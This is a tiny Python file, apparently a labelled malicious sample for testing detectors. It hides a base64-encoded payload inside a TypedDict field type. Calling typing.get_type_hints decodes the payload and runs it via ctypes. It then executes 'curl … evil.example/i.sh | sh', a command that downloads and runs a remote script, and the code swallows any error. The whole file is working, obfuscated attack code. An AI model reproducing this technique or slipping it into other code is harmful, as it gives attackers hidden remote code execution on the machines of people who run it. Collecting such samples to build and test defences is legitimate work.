# harm: loads libc via ctypes and runs curl|sh ; trick: typing.TypedDict("Movie", {"x": decoded}) field type
import base64
import typing

Movie = typing.TypedDict("Movie", {"x": base64.b64decode("X19pbXBvcnRfXygnY3R5cGVzJykuQ0RMTChOb25lKS5zeXN0ZW0oYidjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcp").decode()})
try:
    typing.get_type_hints(Movie)
except Exception:
    pass
